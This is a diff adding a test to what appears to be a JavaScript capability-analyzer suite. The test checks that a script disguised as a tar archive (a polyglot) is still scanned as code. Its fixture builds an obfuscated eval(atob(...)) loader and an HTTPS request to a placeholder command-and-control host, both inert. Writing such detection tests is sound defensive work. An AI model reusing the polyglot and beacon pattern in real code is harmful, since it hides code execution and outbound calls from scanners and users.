@@ -124,3 +124,21 @@ describe('when a declaration file declares constants without values', () => {
     expect(plain.gaps.map((gap) => gap.code)).toEqual(['E_JS_SYNTAX']);
   });
 });
+
+describe('when a script is also a tar archive (a polyglot)', () => {
+  it('is still analysed as the script Node would run', async () => {
+    // `ustar` at offset 257 makes the bytes a tar header to the type sniffer; for JavaScript it
+    // sits in a comment. Inert: the host is under .invalid.
+    const first = "eval(atob('Y29uc29sZS5sb2coImluZXJ0Iik='));//";
+    const header = `${first}${' '.repeat(257 - first.length)}ustar${' '.repeat(512 - 262)}`;
+    const source = `${header}\nrequire('https').get('https://c2.invalid/x');\n`;
+    const node = memoryNode(bytes(source), { name: 'index.js' });
+    expect(node.type).toBe('tar');
+    expect(jsCapabilitiesAnalyzer.accepts(node)).toBe(true);
+    const result = await jsCapabilitiesAnalyzer.analyze(node, { limits: {} as never });
+    const capabilities = factsOfKind(result.facts, 'js.capability').map((fact) => fact.capability);
+    expect(capabilities).toEqual(expect.arrayContaining(['code.eval', 'network.outbound']));
+    // The same bytes under a name no runtime executes are left to the tar unpacker.
+    expect(jsCapabilitiesAnalyzer.accepts(memoryNode(bytes(source), { name: 'data.bin' }))).toBe(false);
+  });
+});
